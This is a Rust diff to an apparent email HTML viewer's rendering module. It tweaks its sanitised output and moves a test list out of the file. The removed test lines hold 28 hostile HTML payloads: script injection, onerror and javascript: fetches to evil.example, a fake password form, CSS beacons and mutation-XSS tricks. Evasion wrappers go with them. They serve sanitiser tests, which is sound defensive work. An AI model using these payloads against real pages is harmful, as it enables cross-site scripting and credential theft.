@@ -32,7 +32,7 @@ const POLICY: &str = "sandbox; default-src 'none'; style-src 'unsafe-inline'; im
      form-action 'none'; base-uri 'none'; frame-ancestors 'self'";
 
 /// Light on purpose: the sender's page knows no dark.
-const STYLE: &str = "html{font:100%/1.5 system-ui,sans-serif;background:#fff;color:#1c2422}body{margin:1rem}\
+const STYLE: &str = "html{font:100%/1.5 system-ui,sans-serif;background:#fff;color:#1c2422}body{margin:1rem;overflow-wrap:anywhere}\
      h1{font-size:1rem;color:#56615d;border-top:1px solid #d6dbd8;padding-top:.7rem;margin:1.2rem 0 .6rem}\
      h1:first-child{border-top:0;margin-top:0}pre{font:inherit}\
      .text{white-space:pre-wrap;overflow-wrap:anywhere;unicode-bidi:isolate;font-family:inherit}\
@@ -138,7 +138,7 @@ pub(super) fn message(message: &Message<'_>, findings: &[&Finding], w: &Words) -
         if out.html.is_empty() { format!("<p class=\"hint\">{}</p>", escaped(w.nothing)) } else { out.html };
     let document = format!(
         "<!doctype html><html lang=\"{}\"><head><meta charset=\"utf-8\"><title>{}</title><style>{STYLE}</style></head>\
-         <body>{body}</body></html>",
+         <body><main>{body}</main></body></html>",
         w.lang,
         escaped(w.title)
     );
@@ -353,7 +353,10 @@ pub(super) fn sized(bytes: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::message::{ReadLimits, read};
+    use crate::{
+        console::hostile_pages::{ACTS, wrapped},
+        message::{ReadLimits, read},
+    };
 
     const WORDS: Words = Words {
         lang: "en-GB",
@@ -365,52 +368,6 @@ mod tests {
         cut: "cut",
         nothing: "nothing",
     };
-
-    /// What a hostile page would do, each with `evil.example` wherever it would load from or lead to.
-    const ACTS: [&str; 28] = [
-        "<script>alert(document.domain)//evil.example</script>",
-        "<script src=//evil.example/x.js></script>",
-        "<img src=http://evil.example/p.gif onerror=alert(1)>",
-        "<img src=x onerror=\"fetch('http://evil.example')\">",
-        "<svg><script>alert('evil.example')</script></svg>",
-        "<svg onload=fetch('//evil.example')><use href=http://evil.example/s.svg#x></svg>",
-        "<math><mtext><style><img src=http://evil.example title='</style><img src=//evil.example>'></style></mtext></math>",
-        "<style>body{background:url(http://evil.example/b.png)}</style>",
-        "<style>@import 'http://evil.example/c.css';</style>",
-        "<p style=\"background:url(http://evil.example/b.png);position:fixed;inset:0\">covers</p>",
-        "<link rel=stylesheet href=http://evil.example/c.css>",
-        "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-        "<base href=http://evil.example/>",
-        "<form action=http://evil.example><input name=password><button>Sign in</button></form>",
-        "<a href=javascript:fetch('//evil.example')>click</a>",
-        "<a href='  jav&#x09;ascript:fetch(`//evil.example`)'>click</a>",
-        "<a href=data:text/html,http://evil.example target=_top>click</a>",
-        "<iframe src=http://evil.example></iframe>",
-        "<iframe srcdoc='<script>fetch(`//evil.example`)</script>'></iframe>",
-        "<object data=http://evil.example/o.swf><embed src=http://evil.example/e></object>",
-        "<video src=http://evil.example/v poster=http://evil.example/p><source src=//evil.example></video>",
-        "<noscript><p title=\"</noscript><img src=//evil.example onerror=alert(1)>\">",
-        "<template><img src=http://evil.example></template>",
-        "<body onload=fetch('//evil.example') background=http://evil.example/b>",
-        "<table background=http://evil.example/t width=100000 height=100000><tr><td colspan=65000 rowspan=65000>x</td></tr></table>",
-        "<input autofocus onfocus=fetch('//evil.example')><select onchange=x><option>http-evil</select>",
-        "<details open ontoggle=fetch('//evil.example')><summary>x</summary></details>",
-        "<!--><img src=http://evil.example onerror=alert(1)>-->",
-    ];
-
-    /// Ways in which it could lie.
-    fn wrapped(act: &str) -> [String; 8] {
-        [
-            act.to_owned(),
-            format!("<div><table><tr><td>{act}</td></tr></table></div>"),
-            format!("<blockquote>{}{act}", "<div>".repeat(400)),
-            act.replace("<script", "<ScRiPt").replace("<img", "<IMG").replace("<iframe", "<iFRAME"),
-            format!("<p title=\"{act}\">x</p>{act}"),
-            format!("<![CDATA[{act}]]>{act}"),
-            format!("<textarea>{act}</textarea><title>{act}</title><xmp>{act}</xmp>"),
-            format!("\u{202e}{act}\u{0}<b>unclosed {act}<table><td>"),
-        ]
-    }
 
     fn shown_html(html: &str) -> String {
         let raw = format!("Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}");
@@ -435,7 +392,7 @@ mod tests {
                     let name = name.trim_start_matches('/');
                     let own = ["class=\"page\"", "class=\"text\"", "class=\"hint\"", ""];
                     assert!(
-                        TAGS.contains(&name) || ["h1", "body", "html"].contains(&name),
+                        TAGS.contains(&name) || ["h1", "main", "body", "html"].contains(&name),
                         "<{tag}> of {html}"
                     );
                     assert!(own.contains(&attributes), "<{tag}> of {html}");
